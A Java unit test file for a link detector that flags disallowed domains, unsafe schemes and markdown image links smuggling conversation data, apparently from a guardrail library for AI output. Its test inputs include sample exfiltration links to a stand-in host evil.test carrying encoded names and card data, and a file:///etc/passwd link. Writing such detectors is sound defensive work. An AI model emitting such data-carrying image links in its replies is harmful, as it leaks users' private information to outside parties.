package dev.palisade.detectors.content;

import static org.assertj.core.api.Assertions.assertThat;

import dev.palisade.detectors.content.LinkDetector.Reason;
import java.util.List;
import org.junit.jupiter.api.Test;

class LinkDetectorTest {

  private static final LinkDetector ALLOW = LinkDetector.builder()
      .allowDomains(List.of("example.com", "Docs.Corp.Test.")).build();
  private static final LinkDetector OPEN = LinkDetector.builder().build();

  private static List<Reason> reasons(LinkDetector d, String text) {
    return d.scan(text).stream().map(LinkDetector.Match::reason).toList();
  }

  @Test
  void allowsListedDomainsAndTheirSubdomains() {
    assertThat(ALLOW.detect("See https://example.com/a, https://www.example.com/b and "
        + "[docs](https://docs.corp.test/x) or www.example.com/c.")).isEmpty();
  }

  @Test
  void findsWwwAddressesInAnyCaseWithoutAScheme() {
    assertThat(reasons(ALLOW, "Go to WWW.EVIL.TEST/login now")).containsExactly(Reason.DOMAIN_NOT_ALLOWED);
  }

  @Test
  void flagsOtherDomainsWithWholeMarkdownSpan() {
    String text = "Read [this](https://evil.test/page) and https://example.com.evil.test/x.";
    var matches = ALLOW.scan(text);
    assertThat(matches).extracting(LinkDetector.Match::reason)
        .containsExactly(Reason.DOMAIN_NOT_ALLOWED, Reason.DOMAIN_NOT_ALLOWED);
    assertThat(matches.get(0).span().of(text)).isEqualTo("[this](https://evil.test/page)");
    assertThat(matches.get(1).span().of(text)).isEqualTo("https://example.com.evil.test/x");
  }

  @Test
  void userinfoAndPortDoNotHideTheHost() {
    assertThat(reasons(ALLOW, "https://example.com@evil.test:8443/x")).containsExactly(Reason.DOMAIN_NOT_ALLOWED);
    assertThat(reasons(ALLOW, "https://user@example.com:8443/x")).isEmpty();
  }

  @Test
  void flagsImageCarryingConversationData() {
    LinkDetector d = ALLOW.forConversation(List.of("Jane Doe", "4111 1111 1111 1111"));
    String text = "![loading](https://example.com/pixel.png?u=jane%20doe)";
    var m = d.scan(text);
    assertThat(m).singleElement().satisfies(x -> {
      assertThat(x.reason()).isEqualTo(Reason.DATA_EXFILTRATION);
      assertThat(x.image()).isTrue();
      assertThat(x.span().of(text)).isEqualTo(text);
    });
    assertThat(reasons(d, "![x](https://evil.test/p/" + "SmFuZSBEb2U" + ")")).containsExactly(Reason.DATA_EXFILTRATION);
    assertThat(reasons(d, "[x](https://evil.test/?q=" + "4a616e6520446f65" + ")")).containsExactly(Reason.DATA_EXFILTRATION);
    assertThat(d.toString()).doesNotContain("Jane");
  }

  @Test
  void flagsLongEncodedParametersOnImagesWithoutValues() {
    String data = "eyJ1c2VyIjoiamFuZSIsImNhcmQiOiI0MTExMTExMTExMTExMTExIn0";
    assertThat(reasons(OPEN, "![](https://evil.test/i.png?d=" + data + ")")).containsExactly(Reason.ENCODED_DATA);
    assertThat(reasons(OPEN, "<img src=\"https://evil.test/" + data + ".png\">")).containsExactly(Reason.ENCODED_DATA);
    assertThat(reasons(OPEN, "![chart](https://cdn.test/img/chart-2024.png?w=640&h=480)")).isEmpty();
    assertThat(reasons(OPEN, "[search](https://www.google.com/search?q=how+to+bake+bread)")).isEmpty();
  }

  @Test
  void flagsScriptSchemesButNotInlineImages() {
    assertThat(reasons(OPEN, "[click](javascript:alert(1))")).isEmpty(); // not a well-formed link
    assertThat(reasons(OPEN, "[click](javascript:void0)")).containsExactly(Reason.UNSAFE_SCHEME);
    assertThat(reasons(OPEN, "<a href=\"file:///etc/passwd\">x</a>")).containsExactly(Reason.UNSAFE_SCHEME);
    assertThat(reasons(OPEN, "![dot](data:image/png;base64,iVBORw0KGgo=)")).isEmpty();
  }

  @Test
  void takesSensitiveValuesFromTheRequestTextsInTheContext() {
    var ctx = new dev.palisade.detect.DetectionContext() {
      @Override
      public dev.palisade.detect.Channel channel() {
        return dev.palisade.detect.Channel.OUTPUT;
      }

      @Override
      public String systemPrompt() {
        return "";
      }

      @Override
      public List<String> canaries() {
        return List.of();
      }

      @Override
      public List<String> requestTexts() {
        return List.of("Hi, I am Jane Roe, my booking code is QX77Z1 and my mail is jane.roe@mail.test. "
            + "Please summarise the attached itinerary and tell me which hotel is closest to the venue.");
      }
    };
    assertThat(ALLOW.detect("![a](https://example.com/p.png?c=QX77Z1)", ctx)).singleElement()
        .satisfies(f -> assertThat(f.score()).isEqualTo(1.0));
    assertThat(ALLOW.detect("[b](https://example.com/x?who=Jane+Roe)", ctx)).hasSize(1);
    assertThat(ALLOW.detect("[c](https://example.com/hotels)", ctx)).isEmpty();
    assertThat(LinkDetector.sensitivePieces(ctx.requestTexts()))
        .contains("QX77Z1", "jane.roe@mail.test", "Jane Roe").doesNotContain("Please", "itinerary");
  }

  @Test
  void textWithoutLinksIsCheap() {
    assertThat(ALLOW.detect("plain words, no links at all")).isEmpty();
    assertThat(ALLOW.detect("")).isEmpty();
  }

  @Test
  void helpers() {
    assertThat(LinkDetector.hostOf("User@Ex.COM.:80/path")).isEqualTo("ex.com");
    assertThat(LinkDetector.hostOf("[::1]:8080/x")).isEqualTo("[::1]");
    assertThat(LinkDetector.normalizeHost("bücher.de")).isEqualTo("xn--bcher-kva.de");
    assertThat(LinkDetector.percentDecode("a%20b+c%zz%e2%82%ac")).isEqualTo("a b c%zz€");
  }
}
